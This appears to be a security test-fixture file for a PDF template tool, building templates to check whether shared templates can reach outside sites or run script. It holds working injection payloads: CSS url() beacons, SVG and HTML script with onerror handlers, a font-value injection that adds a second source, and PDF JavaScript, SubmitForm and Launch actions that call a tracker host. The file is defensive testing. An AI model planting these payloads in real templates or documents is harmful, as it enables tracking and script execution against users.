// Templates that try every way a shared template could make Platen contact another site or run script (issue #9).
// Each payload names its vector in the tracker URL path (`/<vector>`) or in the canary (`window.__pwned = '<vector>'`),
// so a hit says which door was open.
import { createField } from '../../../src/templates/fieldTypes';
import type { FieldSchema, Template } from '../../../src/templates/types';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@pdfme/pdf-lib';

/** `url(<tracker>/<vector>)`: a CSS image source, the shape a colour beacon takes. */
const beacon = (tracker: string, vector: string) => `url(${tracker}/${vector})`;

/** A script payload: sets the canary and, where it can, phones the tracker. */
const script = (tracker: string, vector: string) => `window.__pwned='${vector}';fetch('${tracker}/${vector}')`;

function field(type: string, name: string, y: number, extra: Record<string, unknown> = {}): FieldSchema {
  return { ...createField(type, name, { x: 10, y }), ...extra };
}

/** Every colour property of every kind of field, on the page and in the header/footer; SVG, HTML-looking text. */
export function colourTemplate(tracker: string): Template {
  const c = (vector: string) => beacon(tracker, `colour/${vector}`);
  const table = field('table', 'items', 150, {
    content: '[["Pen","2"],["Ink","3"],["Nib","4"]]',
    tableStyles: { borderColor: c('table-border'), borderWidth: 0.3 },
    headStyles: { ...(createField('table', 'x', { x: 0, y: 0 }).headStyles as object), fontColor: c('head-font'), backgroundColor: c('head-background'), borderColor: c('head-border') },
    bodyStyles: {
      ...(createField('table', 'x', { x: 0, y: 0 }).bodyStyles as object),
      fontColor: c('body-font'),
      backgroundColor: c('body-background'),
      borderColor: c('body-border'),
      alternateBackgroundColor: c('body-alternate'),
    },
  });
  const svg = [
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20">`,
    `<style>@import url(${tracker}/svg/style-import); rect { fill: url(${tracker}/svg/style-fill) }</style>`,
    `<image href="${tracker}/svg/image-href" width="10" height="10"/><image xlink:href="${tracker}/svg/image-xlink" width="10" height="10"/>`,
    `<use href="${tracker}/svg/use#x"/><rect width="5" height="5" fill="url(${tracker}/svg/fill#g)"/>`,
    `<a href="javascript:${script(tracker, 'svg/javascript-link')}"><text y="15">link</text></a>`,
    `<script>${script(tracker, 'svg/script')}</script><image href="x" onerror="${script(tracker, 'svg/onerror')}"/>`,
    `<foreignObject width="40" height="20"><img xmlns="http://www.w3.org/1999/xhtml" src="${tracker}/svg/foreign-img"/></foreignObject>`,
    `</svg>`,
  ].join('');
  const html = `<img src="${tracker}/html/img" onerror="${script(tracker, 'html/onerror')}"><script>${script(tracker, 'html/script')}</script><style>@import url(${tracker}/html/style)</style>`;
  const pages: FieldSchema[] = [
    field('text', 'title', 10, { content: 'Colours', fontColor: c('text-font'), backgroundColor: c('text-background'), borderColor: c('text-border'), borderWidth: 0.5 }),
    field('rectangle', 'box', 30, { color: c('rectangle-fill'), borderColor: c('rectangle-border'), borderWidth: 1 }),
    field('ellipse', 'dot', 55, { color: c('ellipse-fill'), borderColor: c('ellipse-border'), borderWidth: 1 }),
    field('line', 'rule', 80, { color: c('line') }),
    field('checkbox', 'tick', 90, { color: c('checkbox'), content: 'true' }),
    field('qrcode', 'code', 100, { barColor: c('qrcode-bars'), backgroundColor: c('qrcode-background'), content: 'https://example.com' }),
    field('svg', 'drawing', 125, { content: svg, readOnly: true }),
    table,
    field('text', `<img src="${tracker}/html/name" onerror="${script(tracker, 'html/name')}">`, 200, { content: html }),
    field('multiVariableText', 'letter', 220, { text: `Dear {name} ${html}`, variables: ['name'], content: '{"name":"<b>x</b>"}' }),
  ];
  const header: FieldSchema[] = [
    field('rectangle', 'headerBar', 0, { width: 190, height: 8, color: c('header-rectangle-fill'), borderColor: c('header-rectangle-border'), borderWidth: 0.5 }),
    field('text', 'footerText', 285, { content: 'Footer', readOnly: true, fontColor: c('footer-text-font'), backgroundColor: c('footer-text-background') }),
  ];
  return {
    basePdf: { width: 210, height: 297, padding: [10, 10, 10, 10], staticSchema: header },
    schemas: [pages],
    platen: { name: `Privacy colours <img src="${tracker}/html/template-name">` },
  };
}

/** The uploaded-font trick (a second url() source), pictures by web address. */
export function fontAndImageTemplate(tracker: string): Template {
  const svgPicture = `<svg xmlns="http://www.w3.org/2000/svg"><image href="${tracker}/image/svg-data-url-inner" width="9" height="9"/></svg>`;
  return {
    basePdf: { width: 210, height: 297, padding: [10, 10, 10, 10] },
    schemas: [
      [
        field('text', 'tricked', 10, { content: 'Font trick', fontName: 'Tricked' }),
        field('text', 'trickedAsReported', 25, { content: 'Font trick as reported', fontName: 'TrickedAsReported' }),
        field('image', 'photo', 40, { content: `${tracker}/image/sample-content` }),
        field('image', 'logo', 80, { content: `${tracker}/image/fixed-content`, readOnly: true }),
        field('signature', 'sign', 120, { content: `${tracker}/image/signature` }),
        field('image', 'vector', 160, { content: `data:image/svg+xml;base64,${Buffer.from(svgPicture).toString('base64')}` }),
      ],
    ],
    platen: {
      name: 'Privacy fonts and images',
      fonts: {
        // The canvas used to write `url(${data})`, so a value without its last ")" closes into a second valid source;
        // the one with it (as issue #9 spells it) leaves a stray ")" that Chromium drops with that source.
        Tricked: `data:font/ttf;base64,AAAA), url(${tracker}/font/second-source`,
        TrickedAsReported: `data:font/ttf;base64,AAAA), url(${tracker}/font/as-reported.ttf)`,
      },
    },
  };
}

/** A one-page PDF whose catalog, page and links carry JavaScript, URI, SubmitForm and Launch actions. */
export async function activePdf(tracker: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText('Background with actions', { x: 50, y: 780, size: 18, font: await pdf.embedFont(StandardFonts.Helvetica) });
  const { context } = pdf;
  const js = (vector: string) =>
    context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(`app.launchURL('${tracker}/${vector}', true); ${script(tracker, vector)}`) });
  const link = (rect: number[], action: unknown) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, Border: [0, 0, 1], A: action as never }));
  pdf.catalog.set(PDFName.of('OpenAction'), js('pdf/open-action'));
  pdf.catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: context.obj({ Names: [PDFString.of('boot'), js('pdf/document-javascript')] }) }),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: js('pdf/page-open') }));
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link([50, 700, 300, 730], context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of(`${tracker}/pdf/uri-link`) })),
      link([50, 650, 300, 680], js('pdf/javascript-link')),
      link([50, 600, 300, 630], context.obj({ Type: 'Action', S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of(`${tracker}/pdf/submit`) }) })),
      link([50, 550, 300, 580], context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of(`${tracker}/pdf/launch`) })),
    ]),
  );
  return pdf.save();
}

/** An uploaded background PDF full of actions, with a field on it. */
export async function activePdfTemplate(tracker: string): Promise<Template> {
  const bytes = await activePdf(tracker);
  return {
    basePdf: `data:application/pdf;base64,${Buffer.from(bytes).toString('base64')}`,
    schemas: [[field('text', 'onTop', 120, { content: 'Printed on the background' })]],
    platen: { name: 'Privacy active PDF' },
  };
}
